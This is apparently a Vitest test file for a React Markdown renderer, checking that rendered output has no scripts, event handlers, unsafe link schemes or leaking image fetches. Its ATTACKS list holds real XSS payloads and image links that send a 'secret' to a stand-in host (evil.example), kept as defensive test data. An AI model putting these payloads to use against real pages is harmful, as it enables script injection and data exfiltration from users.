import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test, vi } from 'vitest';
import { Markdown } from '@/components/ui/markdown';

vi.mock('next/navigation', () => ({ useRouter: () => ({}) }));

const drawn = (markdown: string) => renderToStaticMarkup(<Markdown of={markdown} />);

/** What an answer or notes would fetch, or run, or lead to. */
const ATTACKS = [
  '<img src=x onerror="window.hurt=1">',
  '<script>window.hurt=1</script>',
  '![x](https://evil.example/?q=secret)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '![x][ref]\n\n[ref]: https://evil.example/?q=secret',
  '[x](javascript:window.hurt=1)',
  '[x](JAVASCRIPT:window.hurt=1)',
  '[x](<java\tscript:window.hurt=1>)',
  '[x](&#106;avascript:window.hurt=1)',
  '[x](vbscript:x)',
  '[x](data:text/html,<script>window.hurt=1</script>)',
  '[x](blob:https://taskflow.example/1)',
  '[x](file:///etc/passwd)',
  '[x](https://evil.example/"onmouseover="window.hurt=1)',
  '[x](https://evil.example "title" onclick=window.hurt=1)',
  'javascript:window.hurt=1',
  'https:javascript:window.hurt=1',
  'https://evil.example/"onmouseover="window.hurt=1',
  "https://evil.example/'><img src=x onerror=window.hurt=1>",
  'https://javascript:window.hurt=1@evil.example',
  'https://evil.example/\u202e<b onmouseover=window.hurt=1>',
  '> - # <svg onload=window.hurt=1>',
  '```html\n<iframe srcdoc="<script>parent.hurt=1</script>">\n```',
  '`<b onmouseover=window.hurt=1>`',
];

test.each(ATTACKS)('nothing is fetched or run by %s', (markdown) => {
  // Whatever is an element, by its name and its attributes: text has no brackets left.
  const elements = [...drawn(markdown).matchAll(/<([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)\/?>/gi)];
  expect(drawn(markdown).match(/</g)).toHaveLength(elements.length + (drawn(markdown).match(/<\//g)?.length ?? 0));
  for (const [, name = '', attributes = ''] of elements) {
    expect(['div', 'p', 'a', 'span', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'strong', 'em', 'del', 'br', 'hr']).toContain(name);
    expect(attributes).not.toMatch(/ (?:on\w+|src\w*|style)=/i);
    expect(attributes).not.toMatch(/href="(?!https?:|mailto:|\/(?!\/))/);
  }
});

test('a link leads to the web, to mail, or to a page of ours, and tells nobody where from', () => {
  expect(drawn('[a](https://example.com/x)')).toMatch(
    /<a href="https:\/\/example.com\/x" target="_blank" rel="noopener noreferrer"[^>]*>a<\/a><span[^>]*> \(example.com\)<\/span>/,
  );
  expect(drawn('[a](mailto:ada@example.com)')).toContain('href="mailto:ada@example.com"');
  expect(drawn('[a](/projects/1?x=1)')).toMatch(/<a href="\/projects\/1\?x=1" class="[^"]*">a<\/a><\/p>/);
});

test('a bare address is a link, and says whose it is where it pretends to be another’s', () => {
  expect(drawn('See https://example.com/x.')).toMatch(/See <a href="https:\/\/example.com\/x" [^>]*>https:\/\/example.com\/x<\/a>\.<\/p>/);
  expect(drawn('https://bank.example@evil.example')).toMatch(/<\/a><span[^>]*> \(evil.example\)<\/span>/);
});

test('what a link that leads nowhere says stays, and so does what a picture is called', () => {
  expect(drawn('See [this *one*](javascript:x), ![a cat](https://evil.example/cat.png).')).toContain('<p>See this <em>one</em>, a cat.</p>');
});
